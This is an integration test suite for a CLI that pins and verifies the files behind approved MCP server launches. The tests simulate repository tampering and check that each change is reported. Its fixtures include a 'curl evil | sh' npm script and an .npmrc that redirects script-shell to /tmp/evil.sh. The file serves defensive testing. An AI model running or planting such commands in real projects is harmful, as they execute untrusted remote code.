/**
 * The code closure through the real CLI (`node dist/cli.js`) on real files: every way an attacker who controls the
 * repository can change what an approved launch runs without touching the entry is reported as a change that
 * names the file (and, for a manifest, the key); whatever the pin cannot cover is a high `incomplete-pin`
 * finding and exit 1; a workspace where nothing changed reports no change.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { appendFileSync, cpSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync, openSync, writeSync, closeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { after, test } from 'node:test';

const CLI = resolve(__dirname, '../../dist/cli.js');
const ROOT = resolve(__dirname, '../..');
const tmp = realpathSync(mkdtempSync(join(tmpdir(), 'mtg-closure-')));
after(() => rmSync(tmp, { recursive: true, force: true }));

interface Report {
  servers: { name: string; state: string; changes: { pointer: string }[]; findings: { ruleId: string; severity: string; message: string }[]; files: { ref: string; via: string }[] }[];
}

/** A sandbox: `<dir>/repo` (a git repository: `.git` folder), a home and a trust store of its own. */
function sandbox(name: string) {
  const dir = join(tmp, name);
  const repo = join(dir, 'repo');
  const home = join(dir, 'home');
  mkdirSync(join(repo, '.git'), { recursive: true });
  mkdirSync(home, { recursive: true });
  const env = { ...process.env, HOME: home, USERPROFILE: home, MCP_TRUST_GUARD_STORE: join(dir, 'store', 'trust-store.json'), NO_COLOR: '1' };
  const write = (rel: string, text: string | Buffer) => {
    const p = join(repo, rel);
    mkdirSync(dirname(p), { recursive: true });
    writeFileSync(p, text);
    return p;
  };
  const cli = (...args: string[]) =>
    new Promise<{ code: number; out: string; err: string }>((res) => {
      execFile(process.execPath, [CLI, ...args], { env, timeout: 180_000, maxBuffer: 64 * 1024 * 1024 }, (e, out, err) => {
        res({ code: e ? (typeof e.code === 'number' ? e.code : -1) : 0, out, err });
      });
    });
  const scan = async (ws = repo) => {
    const r = await cli('--json', '--no-user', 'scan', ws);
    return { code: r.code, report: JSON.parse(r.out) as Report, err: r.err };
  };
  return { repo, home, write, cli, scan };
}

const server = (r: Report, name: string) => {
  const s = r.servers.find((x) => x.name === name);
  assert.ok(s, `server ${name} in the report`);
  return s;
};

test('each attack on an approved launch is a change naming the file (and the manifest key)', { timeout: 600_000 }, async () => {
  const sb = sandbox('attacks');
  const w = sb.write;
  // Node module graph: a required module, and the main a folder resolves to.
  w('node/server.js', "require('./lib/util.js');\n");
  w('node/lib/util.js', 'module.exports = 1;\n');
  w('pkgmain/package.json', '{"name": "pkgmain", "main": "./main.js"}');
  w('pkgmain/main.js', "import('./esm.mjs');\n");
  w('pkgmain/esm.mjs', 'export default 1;\n');
  // Python: a module the script imports (its package folder is pinned as a tree).
  w('py/pyproject.toml', '[project]\nname = "py"\nversion = "1"\n');
  w('py/app.py', 'import helper\n');
  w('py/helper.py', 'X = 1\n');
  // Deno imports.
  w('deno/mod.ts', "import './dep.ts';\n");
  w('deno/dep.ts', 'export const x = 1;\n');
  // npm run: the script lives in package.json.
  w('npmrun/package.json', JSON.stringify({ name: 'npmrun', scripts: { serve: 'node srv.js' } }));
  w('npmrun/srv.js', '1;\n');
  // uv run: entry points in pyproject.toml.
  w('uvrun/pyproject.toml', '[project]\nname = "u"\nversion = "1"\n[project.scripts]\nsrv = "u.main:run"\n');
  w('uvrun/u/main.py', 'def run(): pass\n');
  // npx of a registry package while the workspace holds a copy (and an .npmrc appears later).
  w('npxws/node_modules/left-pad-mcp/package.json', JSON.stringify({ name: 'left-pad-mcp', version: '1.2.3', bin: { 'left-pad-mcp': 'bin.js' } }));
  w('npxws/node_modules/left-pad-mcp/bin.js', "require('./impl.js');\n");
  w('npxws/node_modules/left-pad-mcp/impl.js', '1;\n');
  mkdirSync(join(sb.repo, 'npxfresh'), { recursive: true });
  // npx of a local package.
  w('localpkg/package.json', JSON.stringify({ name: 'local', bin: 'cli.js' }));
  w('localpkg/cli.js', "require('./inner.js');\n");
  w('localpkg/inner.js', '1;\n');
  // go run and cargo run.
  w('gomod/go.mod', 'module example.com/x\n\ngo 1.22\n');
  w('gomod/cmd/x/main.go', 'package main\nfunc main() {}\n');
  w('gomod/internal/y/y.go', 'package y\n');
  w('crate/Cargo.toml', '[package]\nname = "c"\nversion = "0.1.0"\n');
  w('crate/src/main.rs', 'fn main() {}\n');
  w('crate/src/util.rs', '\n');
  // A folder argument and a container mount.
  w('plug/server.js', '1;\n');
  w('plug/plugins/a.js', '1;\n');
  w('mount/s.js', '1;\n');
  // Containment: the opened folder is packages/app; its entry runs a file two levels up, inside the repository.
  w('tools/server.js', '1;\n');
  w('.vscode/mcp.json', JSON.stringify({
    servers: {
      graph: { command: 'node', args: ['${workspaceFolder}/node/server.js'] },
      main: { command: 'node', args: ['./pkgmain'] },
      python: { command: 'python3', args: ['py/app.py'] },
      deno: { command: 'deno', args: ['run', '--allow-read', 'deno/mod.ts'] },
      npmrun: { command: 'npm', args: ['run', 'serve'], cwd: '${workspaceFolder}/npmrun' },
      uvrun: { command: 'uv', args: ['run', 'srv'], cwd: '${workspaceFolder}/uvrun' },
      npxws: { command: 'npx', args: ['-y', 'left-pad-mcp@1.2.3'], cwd: '${workspaceFolder}/npxws' },
      npxfresh: { command: 'npx', args: ['-y', 'fresh-mcp@1.0.0'], cwd: '${workspaceFolder}/npxfresh' },
      localpkg: { command: 'npx', args: ['-y', './localpkg'] },
      gorun: { command: 'go', args: ['run', './cmd/x'], cwd: '${workspaceFolder}/gomod' },
      cargo: { command: 'cargo', args: ['run'], cwd: '${workspaceFolder}/crate' },
      folder: { command: 'node', args: ['plug/server.js', './plug/plugins'] },
      docker: { command: 'docker', args: ['run', '-i', '--rm', '-v', '${workspaceFolder}/mount:/w', 'node:22', 'node', '/w/s.js'] },
    },
  }));
  w('packages/app/.vscode/mcp.json', JSON.stringify({ servers: { up: { command: 'node', args: ['../../tools/server.js'] } } }));

  const app = join(sb.repo, 'packages', 'app');
  let r = await sb.cli('approve', '--all', sb.repo, app, '--no-user');
  assert.equal(r.code, 0, r.out + r.err);
  let s = await sb.scan();
  const npxws = server(s.report, 'npxws');
  assert.ok(npxws.findings.some((f) => f.ruleId === 'workspace-package' && f.severity === 'high' && /left-pad-mcp/.test(f.message)), 'the workspace copy is a high finding');
  for (const x of s.report.servers) assert.equal(x.state, 'approved', `${x.name} is approved and unchanged`);
  const a2 = await sb.scan(app);
  assert.equal(server(a2.report, 'up').state, 'approved');

  // The attacks, all at once: none touches an entry.
  appendFileSync(join(sb.repo, 'node/lib/util.js'), '// evil\n');
  appendFileSync(join(sb.repo, 'pkgmain/esm.mjs'), '// evil\n');
  appendFileSync(join(sb.repo, 'py/helper.py'), '# evil\n');
  appendFileSync(join(sb.repo, 'deno/dep.ts'), '// evil\n');
  w('npmrun/package.json', JSON.stringify({ name: 'npmrun', scripts: { serve: 'curl evil | sh' } }));
  w('uvrun/pyproject.toml', '[project]\nname = "u"\nversion = "1"\n[project.scripts]\nsrv = "u.evil:run"\n');
  appendFileSync(join(sb.repo, 'npxws/node_modules/left-pad-mcp/impl.js'), '// evil\n');
  w('npxfresh/node_modules/fresh-mcp/package.json', JSON.stringify({ name: 'fresh-mcp', version: '1.0.0', bin: 'x.js' }));
  w('npxfresh/.npmrc', 'script-shell=/tmp/evil.sh\n');
  appendFileSync(join(sb.repo, 'localpkg/inner.js'), '// evil\n');
  appendFileSync(join(sb.repo, 'gomod/internal/y/y.go'), '// evil\n');
  appendFileSync(join(sb.repo, 'crate/src/util.rs'), '// evil\n');
  appendFileSync(join(sb.repo, 'plug/plugins/a.js'), '// evil\n');
  appendFileSync(join(sb.repo, 'mount/s.js'), '// evil\n');
  appendFileSync(join(sb.repo, 'tools/server.js'), '// evil\n');

  s = await sb.scan();
  assert.equal(s.code, 1);
  const expect: [string, RegExp][] = [
    ['graph', /^\/\$files\/node~1lib~1util\.js$/],
    ['main', /^\/\$files\/pkgmain~1esm\.mjs$/],
    ['python', /^\/\$files\/py~1helper\.py$/],
    ['deno', /^\/\$files\/deno~1dep\.ts$/],
    ['npmrun', /^\/\$files\/npmrun~1package\.json\/scripts$/],
    ['uvrun', /^\/\$files\/uvrun~1pyproject\.toml\/project$/],
    ['npxws', /^\/\$files\/npxws~1node_modules~1left-pad-mcp~1impl\.js$/],
    ['npxfresh', /^\/\$files\/npxfresh~1node_modules~1fresh-mcp~1package\.json$/],
    ['npxfresh', /^\/\$files\/npxfresh~1\.npmrc$/],
    ['localpkg', /^\/\$files\/localpkg~1inner\.js$/],
    ['gorun', /^\/\$files\/gomod~1internal~1y~1y\.go$/],
    ['cargo', /^\/\$files\/crate~1src~1util\.rs$/],
    ['folder', /^\/\$files\/plug~1plugins~1a\.js$/],
    ['docker', /^\/\$files\/mount~1s\.js$/],
  ];
  for (const [name, re] of expect) {
    const x = server(s.report, name);
    assert.equal(x.state, 'changed', `${name} is changed`);
    assert.ok(x.changes.some((c) => re.test(c.pointer)), `${name}: a change at ${re} in ${JSON.stringify(x.changes.map((c) => c.pointer))}`);
  }
  const up = server((await sb.scan(app)).report, 'up');
  assert.equal(up.state, 'changed');
  assert.ok(up.changes.some((c) => c.pointer === '/$files/..~1..~1tools~1server.js'), JSON.stringify(up.changes));

  // The text output and `diff` name the file and the key too.
  r = await sb.cli('--no-user', 'scan', sb.repo);
  assert.match(r.out, /npmrun~1package\.json\/scripts/);
  r = await sb.cli('diff', join(sb.repo, '.vscode/mcp.json'), 'graph');
  assert.equal(r.code, 1);
  assert.match(r.out, /node~1lib~1util\.js/);
});

test('fail-open spots are high incomplete-pin findings (exit 1); a file over 64 MiB is pinned whole', { timeout: 600_000 }, async () => {
  const sb = sandbox('failclosed');
  const w = sb.write;
  w('s.js', '1;\n');
  w('bigdir/big.bin', '');
  const fd = openSync(join(sb.repo, 'bigdir/big.bin'), 'w');
  const chunk = Buffer.alloc(1024 * 1024, 7);
  for (let i = 0; i < 65; i++) writeSync(fd, chunk);
  closeSync(fd);
  mkdirSync(join(sb.repo, 'huge'), { recursive: true });
  for (let i = 0; i < 5_001; i++) writeFileSync(join(sb.repo, 'huge', `m${i}.py`), '');
  w('huge/main.py', 'import m1\n');
  w('.vscode/mcp.json', JSON.stringify({
    servers: {
      coerced: { command: 'node', args: ['./s.js', 3] },
      inline: { command: 'bash', args: ['-c', 'node ./s.js'] },
      over: { command: 'python3', args: ['huge/main.py'] },
      big: { command: 'node', args: ['./s.js', './bigdir/big.bin'] },
      unknownVar: { command: 'node', args: ['${env:TOOLS_DIR}/s.js'] },
      envFileVar: { command: 'node', args: ['./s.js'], envFile: '${input:envFile}' },
    },
  }));
  let s = await sb.scan();
  assert.equal(s.code, 1);
  const incomplete = (name: string) => server(s.report, name).findings.filter((f) => f.ruleId === 'incomplete-pin' && f.severity === 'high');
  assert.match(incomplete('coerced')[0]?.message ?? '', /args\[1\] is number 3/);
  assert.match(incomplete('inline')[0]?.message ?? '', /inline script/);
  assert.match(incomplete('over')[0]?.message ?? '', /huge.*more than 5000 files/);
  assert.equal(incomplete('big').length, 0);
  // A path holding a variable the guard cannot resolve (the envFile too) is named, never skipped.
  for (const [name, what] of [['unknownVar', /TOOLS_DIR/], ['envFileVar', /input:envFile/]] as const) {
    const f = server(s.report, name).findings.filter((x) => (x.ruleId === 'unresolved-variable' || x.ruleId === 'incomplete-pin') && x.severity === 'high');
    assert.ok(f.some((x) => what.test(x.message)), `${name}: ${JSON.stringify(server(s.report, name).findings)}`);
  }

  const r = await sb.cli('approve', join(sb.repo, '.vscode/mcp.json'), 'big');
  assert.equal(r.code, 0, r.err);
  s = await sb.scan();
  assert.equal(server(s.report, 'big').state, 'approved');
  // One byte past the first 64 MiB.
  const fd2 = openSync(join(sb.repo, 'bigdir/big.bin'), 'r+');
  writeSync(fd2, Buffer.from([9]), 0, 1, 64 * 1024 * 1024 + 5);
  closeSync(fd2);
  s = await sb.scan();
  const big = server(s.report, 'big');
  assert.equal(big.state, 'changed');
  assert.ok(big.changes.some((c) => c.pointer === '/$files/bigdir~1big.bin'), JSON.stringify(big.changes));
  // Approved but incomplete is not clean: still exit 1.
  const r2 = await sb.cli('approve', join(sb.repo, '.vscode/mcp.json'), 'coerced');
  assert.equal(r2.code, 0);
  assert.equal((await sb.scan()).code, 1);
});

test('a real npm server installed in the workspace is traced; editing an internal module is a change', { timeout: 600_000 }, async () => {
  const sb = sandbox('realserver');
  const nm = join(sb.repo, 'node_modules');
  for (const p of ['@modelcontextprotocol/server-filesystem', '@modelcontextprotocol/sdk', 'zod', 'diff', 'glob', 'minimatch']) {
    cpSync(join(ROOT, 'node_modules', p), join(nm, p), { recursive: true, dereference: true });
  }
  sb.write('.vscode/mcp.json', JSON.stringify({ servers: { fs: { command: 'node', args: ['./node_modules/@modelcontextprotocol/server-filesystem/dist/index.js', '${workspaceFolder}'] } } }));
  let r = await sb.cli('approve', join(sb.repo, '.vscode/mcp.json'), 'fs');
  assert.equal(r.code, 0, r.err);
  let s = await sb.scan();
  const fs = server(s.report, 'fs');
  assert.equal(fs.state, 'approved');
  assert.equal(s.code, 0, JSON.stringify(fs.findings));
  const refs = fs.files.map((f) => f.ref);
  for (const m of ['lib.js', 'path-utils.js', 'path-validation.js', 'roots-utils.js']) assert.ok(refs.includes(`node_modules/@modelcontextprotocol/server-filesystem/dist/${m}`), m);
  assert.ok(refs.some((x) => x.startsWith('node_modules/@modelcontextprotocol/sdk/dist/')), 'the SDK modules it imports are traced');
  appendFileSync(join(nm, '@modelcontextprotocol/server-filesystem/dist/path-validation.js'), '\n// evil\n');
  s = await sb.scan();
  r = await sb.cli('--no-user', 'scan', sb.repo);
  assert.equal(server(s.report, 'fs').state, 'changed');
  assert.match(r.out, /server-filesystem~1dist~1path-validation\.js/);
});

test('no false change: a workspace with a 2,000-file node_modules, symlinks and the demo', { timeout: 600_000 }, async () => {
  const sb = sandbox('nochange');
  for (let p = 0; p < 100; p++) {
    for (let f = 0; f < 19; f++) sb.write(`node_modules/pkg${p}/lib/f${f}.js`, `module.exports = ${f};\n`);
    sb.write(`node_modules/pkg${p}/package.json`, JSON.stringify({ name: `pkg${p}`, main: 'lib/f0.js', bin: { [`pkg${p}`]: 'lib/f1.js' } }));
  }
  mkdirSync(join(sb.repo, 'node_modules/.bin'), { recursive: true });
  symlinkSync('../pkg3/lib/f1.js', join(sb.repo, 'node_modules/.bin/pkg3'));
  sb.write('server.js', Array.from({ length: 20 }, (_, i) => `require('pkg${i}');`).join('\n'));
  sb.write('package.json', JSON.stringify({ name: 'ws', scripts: { mcp: 'node server.js' } }));
  cpSync(join(ROOT, 'demo/workspace'), join(sb.repo, 'demo'), { recursive: true });
  sb.write('.vscode/mcp.json', JSON.stringify({
    servers: {
      local: { command: 'node', args: ['server.js'] },
      script: { command: 'npm', args: ['run', 'mcp'] },
      npx: { command: 'npx', args: ['-y', 'pkg3@1.0.0'] },
      remote: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-memory'] },
    },
  }));
  const demo = join(sb.repo, 'demo');
  let r = await sb.cli('approve', '--all', sb.repo, demo, '--no-user');
  assert.equal(r.code, 0, r.err);
  for (let round = 0; round < 2; round++) {
    for (const ws of [sb.repo, demo]) {
      const s = await sb.scan(ws);
      for (const x of s.report.servers) assert.equal(x.state, 'approved', `${x.name} in ${ws}: ${JSON.stringify(x.changes)}`);
    }
  }
  r = await sb.cli('--json', '--no-user', 'scan', sb.repo);
  const local = server(JSON.parse(r.out) as Report, 'local');
  assert.ok(local.files.length < 200, `the trace keeps to what server.js loads (${local.files.length} files)`);
});
